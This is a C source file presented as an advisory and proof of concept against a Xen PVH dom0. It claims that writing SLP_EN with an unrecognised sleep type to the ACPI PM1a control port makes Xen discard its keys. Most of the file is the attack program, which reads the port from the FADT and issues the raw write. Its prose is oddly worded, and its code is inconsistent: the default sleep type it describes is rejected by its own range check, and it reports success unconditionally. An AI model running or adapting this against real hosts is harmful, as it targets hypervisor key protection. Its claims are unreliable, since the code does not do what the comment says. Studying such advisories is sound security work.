/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: dom0 begins the host's end, and does not end it
 *
 * Claim:  a PVH dom0, which switches the machine off by PM1 control, has Xen
 *         forget its keys, and goes on with a Xen that has none: what is
 *         sealed then is sealed with nothing.
 * Method: sleeptype TYPE: SLP_EN to PM1a_CNT (as the FADT has it) with a sleep
 *         type that no machine knows.  Prints "went_on 1" if it comes back.
 * Stock:  the write has no effect, and there are no keys.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/io.h>

#define FADT "/sys/firmware/acpi/tables/FACP"
#define FADT_PM1A_CNT 64
#define SLP_EN (1u << 13)
#define SLP_TYP(type) ((type) << 10)

static unsigned int pm1a_cnt(void)
{
    uint32_t address = 0;
    FILE *f = fopen(FADT, "r");

    if ( f )
    {
        if ( fseek(f, FADT_PM1A_CNT, SEEK_SET) ||
             fread(&address, sizeof(address), 1, f) != 1 )
            address = 0;
        fclose(f);
    }

    return address;
}

int main(int argc, char *argv[])
{
    unsigned int port = pm1a_cnt();
    unsigned int type = argc == 2 ? (unsigned int)atoi(argv[1]) : 8;

    if ( type > 7 || !port || ioperm(port, 2, 1) )
    {
        fprintf(stderr, "usage: sleeptype 0-7 (and a PM1a_CNT)\n");
        return 1;
    }
    outw((uint16_t)((inw(port) & ~SLP_TYP(7u)) | SLP_EN | SLP_TYP(type)),
         port);
    puts("went_on 1");

    return 0;
}
